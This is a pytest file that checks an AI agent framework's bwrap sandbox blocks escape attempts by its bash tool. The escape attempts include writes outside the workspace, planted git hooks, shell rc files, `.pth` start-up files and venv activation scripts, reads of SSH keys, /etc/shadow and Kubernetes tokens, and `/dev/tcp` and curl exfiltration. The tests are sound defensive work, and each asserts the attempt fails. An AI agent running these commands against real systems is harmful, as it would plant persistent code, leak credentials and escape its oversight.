"""Sandbox escapes that the capability check lets through on purpose: the OS (bwrap) must refuse.

The manifests allow the commands with wildcard arguments, so argv paths are
not checked by the engine at all; every refusal here comes from the mounts,
the network namespace or the cleared environment, and each test shows the
side effect did not happen (the lab tree is unchanged, no server saw a byte).
"""

from __future__ import annotations

import os
import socket
import stat
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from clock_support import early_in_a_second
from test_bash_support import (
    ALLOW_ALL,
    OS_REFUSALS,
    Lab,
    allow,
    arity,
    assert_os_refused,
    assert_ran,
    assert_refused,
    bash_manifest,
)
from test_net_servers import RecordingServer, Reply, Sentinel

pytestmark = [pytest.mark.bwrap, pytest.mark.anyio]

TOKEN = "s3cr3t-7f1c2e9a-do-not-leak"


FILE_SHELL = [
    *(arity(c, n) for c in ("cp", "mv", "ln", "tee", "touch", "mkdir") for n in (1, 2, 3)),
]


def _links(lab: Lab) -> None:
    (lab.ws / "to_out").symlink_to(lab.outside)
    (lab.ws / "to_target").symlink_to(lab.outside / "target.txt")


OUTSIDE_WRITES = [
    ("cp", "cp a.txt ../outside/S"),
    ("cp-target-directory", "cp --target-directory=../outside a.txt"),
    ("mv-t", "mv -t ../outside a.txt"),
    ("mv", "mv a.txt ../outside/S"),
    ("tee", "tee ../outside/S"),
    ("tee-append", "tee -a ../outside/target.txt"),
    ("touch", "touch ../outside/S"),
    ("touch-lab-root", "touch {root}/S"),
    ("touch-prefix-sibling", "touch ../ws_evil/S"),
    ("mkdir", "mkdir ../outside/D"),
    ("symlinked-dir", "touch to_out/S"),
    ("symlinked-dir-cp", "cp a.txt to_out/"),
    ("symlinked-file-cp", "cp a.txt to_target"),
    ("symlinked-file-tee", "tee to_target"),
    ("symlinked-file-touch-date", "touch -d 2001-01-01 to_target"),
    ("hard-link", "ln ../outside/target.txt hl"),
    ("hard-link-cp-l", "cp -l ../outside/target.txt hl"),
]


@pytest.mark.parametrize("view", ["minimal", "full"])
@pytest.mark.parametrize("command", [c[1] for c in OUTSIDE_WRITES], ids=[c[0] for c in OUTSIDE_WRITES])
async def test_allowed_commands_cannot_write_outside_the_write_roots(agent_for: Callable[..., Any], lab: Lab, command: str, view: str) -> None:
    _links(lab)
    mtime = os.stat(lab.outside / "target.txt").st_mtime_ns
    before = lab.snapshot()
    out = assert_os_refused(await agent_for(FILE_SHELL, sandbox_view=view).call("bash", {"command": command.format(root=lab.root)}))
    # full: the outside is there but read-only; minimal: it is not there at all.
    expected = ("Read-only file system", "Invalid cross-device link") if view == "full" else OS_REFUSALS
    assert any(e in out for e in expected), out
    assert lab.snapshot() == before
    assert os.stat(lab.outside / "target.txt").st_mtime_ns == mtime


async def test_control_the_same_commands_write_inside_the_workspace(agent_for: Callable[..., Any], lab: Lab) -> None:
    agent = agent_for(FILE_SHELL)
    for command in ("cp a.txt sub/S", "tee sub/T", "touch sub/U", "ln a.txt sub/hl", "mv sub/U sub/V"):
        assert assert_ran(await agent.call("bash", {"command": command}))["exit_code"] == 0, command
    assert sorted(p.name for p in (lab.ws / "sub").iterdir()) == ["S", "T", "V", "hl"]


# -- protected files: existing ones stay, new ones do not survive the call --------------

PROTECTED = [
    ("git-hook-no-hooks-dir", "touch .git/hooks/pre-commit", None),
    ("git-hook-in-existing-hooks-dir", "touch .git/hooks/pre-commit", "hooks"),
    ("git-hooks-mkdir", "mkdir -p .git/hooks/pre-commit.d", None),
    ("git-without-git-dir", "mkdir -p .git/hooks/x", "no-git"),
    ("git-file-without-git-dir", "touch .git", "no-git"),
    ("git-config-tee", "tee .git/config", None),
    ("git-config-cp", "cp a.txt .git/config", None),
    ("git-config-rename", "mv .git/config c2", None),
    ("git-dir-rename", "mv .git gitx", None),
    ("git-info-attributes", "touch .git/info/attributes", None),
    ("git-commondir", "touch .git/commondir", None),
    ("git-config-worktree", "cp a.txt .git/config.worktree", None),
    ("bashrc", "touch .bashrc", None),
    ("bashrc-cp", "cp a.txt .bashrc", None),
    ("bashrc-mv", "mv a.txt .bashrc", None),
    ("profile", "tee .profile", None),
    ("gitconfig", "touch .gitconfig", None),
    ("gitmodules", "touch .gitmodules", None),
    ("envrc", "touch .envrc", None),
    ("mcp-json", "touch .mcp.json", None),
    ("vscode-dir", "mkdir .vscode", None),
    ("vscode-settings", "touch .vscode/settings.json", None),
    ("agentcore-dir", "mkdir .agentcore", None),
    ("github-workflow", "mkdir -p .github/workflows", None),
    ("gitlab-ci", "cp a.txt .gitlab-ci.yml", None),
    ("husky", "mkdir .husky", None),
    ("claude", "mkdir -p .claude/commands", None),
    ("devcontainer", "mkdir .devcontainer", None),
    ("ripgreprc", "touch .ripgreprc", None),
    ("nested-envrc", "touch sub/.envrc", None),
    ("nested-git-dir", "mkdir -p sub/.git/hooks", None),
    ("nested-git-file", "cp a.txt sub/.git", None),
    ("nested-vscode-tasks", "mkdir -p sub/.vscode", None),
    ("home-git-config", "mkdir -p sub/.config/git", None),
    ("bare-layout", "mkdir sub/objects sub/refs sub/HEAD", None),
]


def _prevented(env: Any) -> None:
    """The command failed on the sandbox's mounts, or ran and the sweep took back what it made."""
    data = assert_ran(env)
    if data["exit_code"] == 0:
        assert env.to_dict()["metadata"].get("protected_removed", 0) >= 1, env.to_dict()


@pytest.mark.parametrize(("command", "setup"), [c[1:] for c in PROTECTED], ids=[c[0] for c in PROTECTED])
async def test_protected_paths_cannot_be_created_or_changed(agent_for: Callable[..., Any], lab: Lab, command: str, setup: str | None) -> None:
    if setup == "hooks":
        (lab.ws / ".git" / "hooks").mkdir()
    elif setup == "no-git":
        (lab.ws / ".git" / "config").unlink()
        (lab.ws / ".git").rmdir()
    before = lab.snapshot()
    _prevented(await agent_for(FILE_SHELL).call("bash", {"command": command}))
    after = lab.snapshot()
    if command == "mv .git/config c2":
        # The rename fails (a mount point); mv then falls back to copy + unlink, and only the copy succeeds.
        assert after.pop("ws/c2") == before["ws/.git/config"]
    if command == "mv a.txt .bashrc":
        # What was renamed to a protected name is removed with it (as if the command had deleted it).
        assert before.pop("ws/a.txt")
    if command == "mkdir -p sub/.config/git":
        assert after.pop("ws/sub/.config")  # not protected itself; the `git` inside it is gone
    if command.startswith("mkdir sub/objects"):
        # The markers that completed the layout are gone; what else the command made stays.
        assert not (lab.ws / "sub" / "HEAD").exists()
        assert {k for k in after if k not in before} < {"ws/sub/objects", "ws/sub/refs"}
        return
    # Unchanged, and no mount-point placeholder is left behind either.
    assert after == before


async def test_a_gitdir_file_cannot_be_redirected(agent_for: Callable[..., Any], lab: Lab) -> None:
    (lab.ws / ".git" / "config").unlink()
    (lab.ws / ".git").rmdir()
    (lab.ws / ".git").write_text("gitdir: ../outside/realgit\n")
    (lab.ws / "evil").write_text("gitdir: sub/evilgit\n")
    before = lab.snapshot()
    for command in ("cp evil .git", "tee .git", "mv evil .git"):
        assert_os_refused(await agent_for(FILE_SHELL).call("bash", {"command": command}))
        assert lab.snapshot() == before, command


async def test_nested_repository_hooks_cannot_be_created(agent_for: Callable[..., Any], lab: Lab) -> None:
    (lab.ws / "sub" / ".git" / "hooks").mkdir(parents=True)
    agent = agent_for([*FILE_SHELL, arity("echo", 1)])
    assert_refused(await agent.call("bash", {"command": "echo x > sub/.git/hooks/pre-commit"}), "capability", "protected")
    await agent.call("bash", {"command": "cp a.txt sub/.git/hooks/pre-commit"})
    assert not (lab.ws / "sub" / ".git" / "hooks" / "pre-commit").exists()


# -- reads ----------------------------------------------------------------------------


async def test_read_denied_paths_read_as_empty_to_an_allowed_cat(agent_for: Callable[..., Any], lab: Lab) -> None:
    (lab.ws / "secret").mkdir()
    (lab.ws / "secret" / "token.txt").write_text(TOKEN)
    (lab.ws / "private.txt").write_text(TOKEN)
    shell = [arity("cat", 1), allow("cat")]
    # Control first: without the deny rules the same commands print the token, so the test can fail.
    plain = agent_for(shell)
    assert TOKEN in assert_ran(await plain.call("bash", {"command": "cat secret/token.txt"}))["output"]
    rules = [
        {"permission": "*", "pattern": "*", "action": "allow"},
        {"permission": "fs.read", "pattern": "{workspace}/secret/**", "action": "deny"},
        {"permission": "fs.read", "pattern": "{workspace}/private.txt", "action": "deny"},
    ]
    agent = agent_for(shell, rules=rules)
    data = assert_ran(await agent.call("bash", {"command": "cat secret/token.txt"}))
    assert TOKEN not in data["output"] and data["exit_code"] != 0
    data = assert_ran(await agent.call("bash", {"command": "cat private.txt"}))
    assert data["output"] == "" and data["exit_code"] == 0  # a file mask reads as empty
    # Through a redirection the engine sees the path, so the rule itself refuses.
    env = await agent.call("bash", {"command": "cat < private.txt"})
    assert_refused(env, "permission", "denied")
    assert TOKEN not in str(env.to_dict())


async def test_a_read_denied_path_that_appears_between_calls_is_masked_at_the_next(agent_for: Callable[..., Any], lab: Lab) -> None:
    # Each call looks at which read-denied paths exist now (and plans only those): one missing at the
    # first call must still be masked once it exists, whoever made it.
    rules = [
        {"permission": "*", "pattern": "*", "action": "allow"},
        {"permission": "fs.read", "pattern": "{workspace}/later.txt", "action": "deny"},
        {"permission": "fs.read", "pattern": "{workspace}/later-dir/**", "action": "deny"},
    ]
    agent = agent_for([arity("cat", 1), allow("cat")], rules=rules)
    data = assert_ran(await agent.call("bash", {"command": "cat later-dir/token.txt"}))
    assert data["exit_code"] != 0  # not there yet
    (lab.ws / "later.txt").write_text(TOKEN)
    (lab.ws / "later-dir").mkdir()
    (lab.ws / "later-dir" / "token.txt").write_text(TOKEN)
    (lab.ws / "plain.txt").write_text(TOKEN)
    for path in ("later.txt", "later-dir/token.txt"):
        data = assert_ran(await agent.call("bash", {"command": f"cat {path}"}))
        assert TOKEN not in data["output"], path
    # Control: the same agent prints a file no rule denies.
    assert TOKEN in assert_ran(await agent.call("bash", {"command": "cat plain.txt"}))["output"]


@pytest.mark.parametrize("writable", [True, False])
async def test_wildcard_read_denies_hide_the_files_they_match(agent_for: Callable[..., Any], lab: Lab, writable: bool) -> None:
    """`**/*.secret.yaml` and `**/private/**`: the files exist only at call time, so the walk finds and masks them."""
    (lab.ws / "config" / "deep").mkdir(parents=True)
    (lab.ws / "config" / "prod.secret.yaml").write_text(TOKEN)
    (lab.ws / "config" / "deep" / "db.secret.yaml").write_text(TOKEN)
    (lab.ws / "config" / "app.yaml").write_text("visible: yes\n")
    (lab.ws / "lib" / "private").mkdir(parents=True)
    (lab.ws / "lib" / "private" / "key.txt").write_text(TOKEN)
    shell = [arity("cat", 1), arity("grep", 3)]
    write = ("{workspace}/**",) if writable else ()
    # Control: without the rules, the direct read and the recursive grep both show the token.
    plain = agent_for(shell, write=write)
    assert TOKEN in assert_ran(await plain.call("bash", {"command": "cat config/deep/db.secret.yaml"}))["output"]
    assert TOKEN in assert_ran(await plain.call("bash", {"command": "grep -r do-not-leak ."}))["output"]
    rules = [
        {"permission": "*", "pattern": "*", "action": "allow"},
        {"permission": "read", "pattern": "**/*.secret.yaml", "action": "deny"},
        {"permission": "fs.read", "pattern": "**/private/**", "action": "deny"},
    ]
    agent = agent_for(shell, rules=rules, write=write)
    before = lab.snapshot()
    for command in ("cat config/prod.secret.yaml", "cat config/deep/db.secret.yaml", "cat lib/private/key.txt", "grep -r do-not-leak ."):
        data = assert_ran(await agent.call("bash", {"command": command}))
        assert TOKEN not in data["output"], command
    assert "visible: yes" in assert_ran(await agent.call("bash", {"command": "cat config/app.yaml"}))["output"]
    assert lab.snapshot() == before  # masks leave nothing behind in the workspace


async def test_manifest_write_denies_keep_paths_read_only_and_uncreatable(agent_for: Callable[..., Any], lab: Lab) -> None:
    """ENV-6: literal (also relative) and wildcard write denies hold against writes the rules cannot see (argv)."""
    (lab.ws / "locked.txt").write_text("keep\n")
    (lab.ws / "sub").mkdir(exist_ok=True)
    (lab.ws / "sub" / "deps.lock").write_text("pinned\n")
    (lab.ws / "notes").mkdir()
    (lab.ws / "notes" / "private.md").write_text(TOKEN)
    shell = [arity("tee", 1), arity("touch", 1), arity("cat", 1)]
    # Control: without the rules `tee` (stdin is empty) truncates, and `touch` creates.
    plain = agent_for(shell)
    assert_ran(await plain.call("bash", {"command": "tee sub/deps.lock"}))
    assert (lab.ws / "sub" / "deps.lock").read_text() == ""
    (lab.ws / "sub" / "deps.lock").write_text("pinned\n")
    rules = [
        *ALLOW_ALL,
        {"permission": "fs.write", "pattern": "{workspace}/locked.txt", "action": "deny"},
        {"permission": "write", "pattern": "never.txt", "action": "deny"},  # relative: anchored at the workspace
        {"permission": "fs.write", "pattern": "**/*.lock", "action": "deny"},
        {"permission": "read", "pattern": "notes/private.md", "action": "deny"},  # relative read deny: masked too
    ]
    agent = agent_for(shell, rules=rules)
    for command in ("tee locked.txt", "tee sub/deps.lock", "touch never.txt"):
        data = assert_ran(await agent.call("bash", {"command": command}))
        assert data["exit_code"] != 0 and ("Read-only file system" in data["output"] or "Permission denied" in data["output"]), (command, data)
    assert (lab.ws / "locked.txt").read_text() == "keep\n" and (lab.ws / "sub" / "deps.lock").read_text() == "pinned\n"
    assert not (lab.ws / "never.txt").exists()  # the placeholder is gone again, and nothing was created
    assert TOKEN not in assert_ran(await agent.call("bash", {"command": "cat notes/private.md"}))["output"]


async def test_a_write_deny_covering_the_whole_workspace_leaves_it_read_only(agent_for: Callable[..., Any], lab: Lab) -> None:
    (lab.ws / "f.txt").write_text("keep\n")
    rules = [*ALLOW_ALL, {"permission": "fs.write", "pattern": "{workspace}/**", "action": "deny"}]
    agent = agent_for([arity("tee", 1), arity("touch", 1)], rules=rules)
    for command in ("tee f.txt", "touch new.txt"):
        data = assert_ran(await agent.call("bash", {"command": command}))
        assert data["exit_code"] != 0, (command, data)
    assert (lab.ws / "f.txt").read_text() == "keep\n" and not (lab.ws / "new.txt").exists()


async def test_home_is_hidden_except_what_fs_read_grants_and_secret_stores_stay_masked(
    make_agent: Callable[..., Any], lab: Lab, monkeypatch: pytest.MonkeyPatch
) -> None:
    home = lab.root / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text(TOKEN)
    (home / ".ssh" / "known_hosts").write_text(TOKEN)
    (home / ".netrc").write_text(TOKEN)
    (home / "notes.txt").write_text(TOKEN)
    monkeypatch.setenv("HOME", os.fspath(home))
    shell = [arity("cat", 1)]
    command = {"command": f"cat {home}/.ssh/id_rsa"}
    # The default watchdog asks before a secret file is touched; headless, that is a refusal.
    agent = make_agent(lab.ws, bash_manifest(shell), engine_kwargs={"watchdog": "default"})
    assert_refused(await agent.call("bash", command), "ask", "headless")
    # With the `secrets` category off (only so that the sandbox is what is tested):
    # the home directory is not in fs.read, so none of it is there.
    agent = make_agent(lab.ws, bash_manifest(shell, watchdog_disable=["secrets"]), engine_kwargs={"watchdog": "default"})
    for path in (".ssh/id_rsa", ".netrc", "notes.txt"):
        data = assert_ran(await agent.call("bash", {"command": f"cat {home}/{path}"}))
        assert TOKEN not in data["output"] and "No such file" in data["output"], path
    # fs.read grants one file, and a file inside ~/.ssh: the first is there, the secret store stays masked.
    read = ("{workspace}/**", f"{home}/notes.txt", f"{home}/.ssh/known_hosts")
    agent = make_agent(lab.ws, bash_manifest(shell, read=read, watchdog_disable=["secrets"]), engine_kwargs={"watchdog": "default"})
    assert TOKEN in assert_ran(await agent.call("bash", {"command": f"cat {home}/notes.txt"}))["output"]
    for path in (".ssh/known_hosts", ".ssh/id_rsa", ".netrc"):
        assert TOKEN not in assert_ran(await agent.call("bash", {"command": f"cat {home}/{path}"}))["output"], path


async def test_system_secret_locations_are_masked(make_agent: Callable[..., Any], lab: Lab, monkeypatch: pytest.MonkeyPatch) -> None:
    """Shadow files, SSH host keys and secret mounts: the list is checked with stand-ins, /etc/shadow for real when root can read it."""
    from agentcore.environments import policy as policy_module

    stand_ins = lab.root / "run-secrets"
    (stand_ins / "kubernetes.io" / "serviceaccount").mkdir(parents=True)
    (stand_ins / "kubernetes.io" / "serviceaccount" / "token").write_text(TOKEN)
    monkeypatch.setattr(policy_module, "SYSTEM_SECRET_PATHS", (*policy_module.SYSTEM_SECRET_PATHS, os.fspath(stand_ins)))
    shell = [arity("cat", 1)]
    agent = make_agent(lab.ws, bash_manifest(shell, watchdog_disable=["secrets"]), engine_kwargs={"watchdog": "default"})
    data = assert_ran(await agent.call("bash", {"command": f"cat {stand_ins}/kubernetes.io/serviceaccount/token"}))
    assert TOKEN not in data["output"] and data["exit_code"] != 0
    # A manifest that grants reading it gets it.
    granted = make_agent(lab.ws, bash_manifest(shell, read=("{workspace}/**", f"{stand_ins}/**"), watchdog_disable=["secrets"]),
                         engine_kwargs={"watchdog": "default"})
    assert TOKEN in assert_ran(await granted.call("bash", {"command": f"cat {stand_ins}/kubernetes.io/serviceaccount/token"}))["output"]
    try:
        shadow = Path("/etc/shadow").read_text()
    except OSError:
        pytest.skip("/etc/shadow is not readable here (not root): the real file cannot leak anyway")
    assert "root:" in shadow  # control: readable to this process, so a sandbox running as root could read it
    data = assert_ran(await agent.call("bash", {"command": "cat /etc/shadow"}))
    assert "root:" not in data["output"]


async def test_secret_environment_of_the_host_is_not_visible(agent_for: Callable[..., Any], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("AGENTCORE_BASH_TEST_SECRET", TOKEN)
    assert os.environ["AGENTCORE_BASH_TEST_SECRET"] == TOKEN
    agent = agent_for([allow("env"), allow("printenv"), arity("printenv", 1)])
    listing = assert_ran(await agent.call("bash", {"command": "env"}))["output"]
    assert "PATH=/usr/local/bin:/usr/bin:/bin" in listing and "HOME=/tmp" in listing  # it did run
    assert TOKEN not in listing and "AGENTCORE_BASH_TEST_SECRET" not in listing
    assert TOKEN not in assert_ran(await agent.call("bash", {"command": "printenv"}))["output"]
    data = assert_ran(await agent.call("bash", {"command": "printenv AGENTCORE_BASH_TEST_SECRET"}))
    assert data["output"] == "" and data["exit_code"] == 1


# -- network without net.hosts --------------------------------------------------------


@pytest.fixture
def servers() -> Iterator[tuple[RecordingServer, Sentinel]]:
    server = RecordingServer({"/": Reply(200, {}, b"host-says-hi")})
    sentinel = Sentinel()
    try:
        yield server, sentinel
    finally:
        server.close()
        sentinel.close()


@pytest.mark.parametrize("flags", ["-s -m 5", "-s -m 5 --noproxy *", "-s -m 5 -x http://127.0.0.1:{port}"])
async def test_no_net_hosts_means_no_network_for_an_allowed_curl(
    agent_for: Callable[..., Any], lab: Lab, servers: tuple[RecordingServer, Sentinel], flags: str
) -> None:
    server, sentinel = servers
    agent = agent_for([arity("curl", n) for n in range(1, 8)])
    for port in (server.port, sentinel.port):
        argv = flags.format(port=port).replace("*", "'*'")
        data = assert_ran(await agent.call("bash", {"command": f"curl {argv} http://127.0.0.1:{port}/"}))
        assert data["exit_code"] == 7, data  # could not connect: only lo exists, nothing listens there
        assert "host-says-hi" not in data["output"]
    assert server.requests == [] and sentinel.connection_count() == 0


async def test_dev_tcp_is_refused_by_the_engine_and_unreachable_for_the_os(
    agent_for: Callable[..., Any], lab: Lab, servers: tuple[RecordingServer, Sentinel]
) -> None:
    _, sentinel = servers
    command = {"command": f"echo x > /dev/tcp/127.0.0.1/{sentinel.port}"}
    assert_refused(await agent_for([arity("echo", 1)]).call("bash", command), "capability", "out_of_scope")
    # Widen the write scope to /dev/tcp and switch the watchdog's `exfiltration` category off (it denies
    # /dev/tcp redirections outright): only the sandbox's network namespace is left to refuse.
    wide = agent_for(
        [arity("echo", 1), arity("cat", 0)],
        write=["{workspace}/**", "/dev/tcp/**"],
        read=["{workspace}/**", "/dev/tcp/**"],
        watchdog_disable=["exfiltration"],
    )
    out = assert_os_refused(await wide.call("bash", command))
    assert "Connection refused" in out or "Network is unreachable" in out, out
    assert_os_refused(await wide.call("bash", {"command": f"cat < /dev/tcp/127.0.0.1/{sentinel.port}"}))
    assert sentinel.connection_count() == 0


def _unix_listener(path: Path) -> socket.socket:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.bind(os.fspath(path))
    s.listen(8)
    return s


def _pending(s: socket.socket) -> int:
    s.setblocking(False)
    n = 0
    try:
        while True:
            conn, _ = s.accept()
            conn.close()
            n += 1
    except BlockingIOError:
        return n


async def _curl_unix(agent_for: Callable[..., Any], path: Path) -> int:
    """Connections a listener at `path` received while an allowed curl tried it through the sandbox."""
    path.parent.mkdir(parents=True, exist_ok=True)
    listener = _unix_listener(path)
    try:
        agent = agent_for([arity("curl", 6)])
        data = assert_ran(await agent.call("bash", {"command": f"curl -s -m 2 --unix-socket {path} http://x/"}))
        assert data["exit_code"] in (7, 28), data  # 7: could not connect; 28: connected, then timed out
        return _pending(listener)
    finally:
        listener.close()


@pytest.mark.parametrize(
    "where",
    ["ws/app.sock", "ws/sub/app.sock", "ws/a/b/c/app.sock", "outside/svc.sock", "outside/.docker/run/docker.sock"],
)
async def test_no_unix_socket_is_reachable_wherever_it_lives(agent_for: Callable[..., Any], lab: Lab, where: str) -> None:
    # Not a mask per socket file: the sandbox cannot create a unix socket at all (seccomp).
    assert await _curl_unix(agent_for, lab.root / where) == 0


async def test_a_planted_entry_is_removed_on_a_filesystem_that_keeps_seconds(
    make_agent: Callable[..., Any], whole_second_fs: Path
) -> None:
    """On a filesystem that stamps whole seconds, a command that changes a directory and the next one that
    plants `.envrc` in it within the same second leave its ctime as it was recorded between them. The sweep
    must list it again anyway; before it did, the planted file survived 7 times out of 8."""
    import time

    from test_bash_support import require_bwrap

    require_bwrap()
    ws = whole_second_fs / "ws"
    (ws / "sub").mkdir(parents=True)
    agent = make_agent(ws, bash_manifest(FILE_SHELL), engine_kwargs={"watchdog": "default"})
    same_second = 0
    for attempt in range(3):
        early_in_a_second()
        assert_ran(await agent.call("bash", {"command": f"touch sub/x{attempt}"}))
        stamp = os.lstat(ws / "sub").st_ctime_ns
        env = await agent.call("bash", {"command": "touch sub/.envrc"})
        same_second += time.time_ns() // 10**9 == stamp // 10**9
        _prevented(env)
        assert not (ws / "sub" / ".envrc").exists()
    assert same_second >= 1  # the case this test is about really happened


async def test_python_start_up_files_cannot_be_planted_or_changed(agent_for: Callable[..., Any], lab: Lab) -> None:
    """A `.pth` file in a virtual environment's site-packages (or a `sitecustomize.py`) runs code at every
    start of that environment's Python, outside any sandbox: none can be made or changed, while an
    installed package's own files stay writable."""
    site = lab.ws / ".venv" / "lib" / "python3.11" / "site-packages"
    (site / "pkg").mkdir(parents=True)
    (site / "existing.pth").write_text("/opt/extra\n")
    rel = ".venv/lib/python3.11/site-packages"
    agent = agent_for(FILE_SHELL)
    for command in (f"touch {rel}/evil.pth", f"cp a.txt {rel}/sitecustomize.py", f"cp a.txt {rel}/existing.pth", f"mv {rel}/existing.pth {rel}/old"):
        _prevented(await agent.call("bash", {"command": command}))
    assert sorted(p.name for p in site.iterdir()) == ["existing.pth", "pkg"]
    assert (site / "existing.pth").read_text() == "/opt/extra\n"
    assert_ran(await agent.call("bash", {"command": f"touch {rel}/pkg/mod.py"}))
    assert (site / "pkg" / "mod.py").exists()


def _real_venv(where: Path) -> Path:
    """A real virtual environment (no pip: quick) whose start-up imports a module of its own, as
    virtualenv's `_virtualenv.pth` and setuptools' `distutils-precedence.pth` do."""
    import subprocess
    import sys
    import sysconfig

    subprocess.run([sys.executable, "-m", "venv", "--without-pip", os.fspath(where)], check=True, capture_output=True)
    purelib = sysconfig.get_path("purelib", vars={"base": os.fspath(where), "platbase": os.fspath(where)})
    site = Path(purelib)
    (site / "_starter.pth").write_text("import _starter\n")
    (site / "_starter.py").write_text("")
    return site


async def test_a_virtual_environment_cannot_be_changed_to_run_code_at_its_next_start(agent_for: Callable[..., Any], lab: Lab) -> None:
    """A virtual environment in a writable root is read-only whole: its interpreter, activation scripts,
    `pyvenv.cfg` and the modules its start-up imports run outside any sandbox whenever the user or the
    editor starts it. Checked by starting it afterwards: nothing the commands wrote runs."""
    import subprocess

    venv = lab.ws / ".venv"
    site = _real_venv(venv)
    rel = os.path.relpath(site, lab.ws)
    pwned = lab.root / "pwned"
    (lab.ws / "evil.py").write_text(f"open({os.fspath(pwned)!r}, 'w').close()\n")
    (lab.ws / "evil.sh").write_text(f"#!/bin/sh\ntouch {pwned}\n")
    (lab.ws / "evil.cfg").write_text(f"home = {lab.ws}\ninclude-system-site-packages = true\n")
    before = {p: p.read_bytes() if p.is_file() and not p.is_symlink() else os.readlink(p) if p.is_symlink() else None
              for p in venv.rglob("*")}
    agent = agent_for(FILE_SHELL)
    for command in (f"cp evil.py {rel}/_starter.py", "cp evil.sh .venv/bin/activate", "mv .venv/bin/python .venv/bin/old",
                    "cp evil.cfg .venv/pyvenv.cfg", f"touch {rel}/new_module.py", "mkdir .venv/include/x"):
        env = await agent.call("bash", {"command": command})
        assert_ran(env)
    if (venv / "bin" / "python").exists():  # a command that moved it away also fails the comparison below
        subprocess.run([os.fspath(venv / "bin" / "python"), "-c", "pass"], capture_output=True, timeout=30)
    subprocess.run(["sh", "-c", ". .venv/bin/activate"], cwd=lab.ws, capture_output=True, timeout=30)
    assert not pwned.exists()
    after = {p: p.read_bytes() if p.is_file() and not p.is_symlink() else os.readlink(p) if p.is_symlink() else None
             for p in venv.rglob("*")}
    assert after == before


async def test_direnvs_layout_directory_cannot_be_given_a_program(agent_for: Callable[..., Any], lab: Lab) -> None:
    """With `layout python` in an allowed `.envrc`, direnv puts `.direnv/python-X.Y/bin` first on the user's
    PATH when their shell enters the project, adopting the directory if it exists: a `git` planted there
    would run at the user's next `git`, outside any sandbox. One that exists is read-only; one a command
    makes is taken back whole."""
    (lab.ws / ".envrc").write_text("layout python\n")
    (lab.ws / "evil.sh").write_text("#!/bin/sh\ntouch /tmp/pwned\n")
    agent = agent_for(FILE_SHELL)
    env = await agent.call("bash", {"command": "mkdir -p .direnv/python-3.11/bin"})
    _prevented(env)
    assert env.to_dict()["metadata"].get("protected_removed") == 1, env.to_dict()
    assert not (lab.ws / ".direnv").exists()
    made = lab.ws / ".direnv" / "python-3.11" / "bin"
    made.mkdir(parents=True)  # what direnv itself made on the host
    for command in ("cp evil.sh .direnv/python-3.11/bin/git", "mv .direnv/python-3.11 .direnv/old", "mkdir .direnv/python-3.12"):
        env = await agent.call("bash", {"command": command})
        assert assert_ran(env)["exit_code"] != 0, env.to_dict()
    assert [p.relative_to(lab.ws).as_posix() for p in sorted((lab.ws / ".direnv").rglob("*"))] == [".direnv/python-3.11", ".direnv/python-3.11/bin"]


@pytest.mark.parametrize("exists", [True, False])
async def test_a_write_deny_keeps_a_directory_the_envrc_puts_on_path_out_of_reach(agent_for: Callable[..., Any], lab: Lab, exists: bool) -> None:
    """The README's advice for a project whose allowed `.envrc` says `PATH_add bin` (outside ENV-7: the user
    chose to run what is there): a write deny on `bin/**` keeps a `git` of the agent's out of it, whether
    `bin` exists or not (the file tools refuse it as any denied write)."""
    (lab.ws / ".envrc").write_text("PATH_add bin\n")
    (lab.ws / "evil.sh").write_text("#!/bin/sh\ntouch /tmp/pwned\n")
    if exists:
        (lab.ws / "bin").mkdir()
        (lab.ws / "bin" / "build").write_text("#!/bin/sh\n")
    deny = {"permission": "fs.write", "pattern": "{workspace}/bin/**", "action": "deny"}
    agent = agent_for(FILE_SHELL, rules=[*ALLOW_ALL, deny])
    for command in ("cp evil.sh bin/git", "mkdir -p bin/sub", "mv bin bin2", "touch bin/build"):
        env = await agent.call("bash", {"command": command})
        if env.type == "output":
            assert env.data["exit_code"] != 0, (command, env.to_dict())
        else:
            assert env.to_dict()["metadata"].get("error_code") == "denied", (command, env.to_dict())
    assert not (lab.ws / "bin2").exists()
    if exists:
        assert sorted(p.name for p in (lab.ws / "bin").iterdir()) == ["build"]
    else:
        assert not (lab.ws / "bin").exists()


async def test_an_activation_script_a_command_makes_is_never_sourced_by_the_users_shell(agent_for: Callable[..., Any], lab: Lab) -> None:
    """oh-my-zsh's `auto_vrun` (and pyautoenv) source `<dir>/bin/activate` when the shell enters a directory
    holding one, `pyvenv.cfg` or not. One a command makes, in any form, is gone when it ends; the user's shell
    entering the project afterwards runs nothing of the agent's."""
    import subprocess

    pwned = lab.root / "pwned"
    (lab.ws / "evil.sh").write_text(f"touch {pwned}\n")
    agent = agent_for(FILE_SHELL)
    env = await agent.call("bash", {"command": "mkdir -p venv/bin sub/.venv/bin && cp evil.sh venv/bin/activate && cp evil.sh sub/.venv/bin/activate.fish"})
    _prevented(env)
    assert env.to_dict()["metadata"].get("protected_removed") == 2, env.to_dict()
    assert (lab.ws / "venv" / "bin").is_dir() and not (lab.ws / "venv" / "bin" / "activate").exists()
    # What auto_vrun does on `cd` into the project.
    subprocess.run(["sh", "-c", "if [ -f venv/bin/activate ]; then . venv/bin/activate; fi"], cwd=lab.ws, check=True, timeout=30)
    assert not pwned.exists()


async def test_a_virtual_environment_a_command_makes_does_not_survive_it(agent_for: Callable[..., Any], lab: Lab) -> None:
    """`pyvenv.cfg` (or `conda-meta`) makes a directory an environment that editors find and start on
    their own: one a command makes is taken back, the rest of the directory stays."""
    agent = agent_for(FILE_SHELL)
    env = await agent.call("bash", {"command": "mkdir -p made/bin && cp a.txt made/pyvenv.cfg && cp a.txt sub/pyvenv.cfg && mkdir -p conda/conda-meta"})
    _prevented(env)
    assert env.to_dict()["metadata"].get("protected_removed") == 3, env.to_dict()
    assert not (lab.ws / "made" / "pyvenv.cfg").exists() and not (lab.ws / "sub" / "pyvenv.cfg").exists()
    assert not (lab.ws / "conda" / "conda-meta").exists()
    assert (lab.ws / "made" / "bin").is_dir() and (lab.ws / "sub").is_dir() and (lab.ws / "conda").is_dir()


@pytest.mark.parametrize("holder", [".github", ".devcontainer", "env", "env/lib/.vscode"])
async def test_wildcard_read_denies_reach_inside_protected_directories(agent_for: Callable[..., Any], lab: Lab, holder: str) -> None:
    """A protected directory or an environment is kept read-only, not hidden: a secret a wildcard read deny
    names inside one is masked like anywhere else (ENV-6 leaves out only `.git`). Before, the walk did not
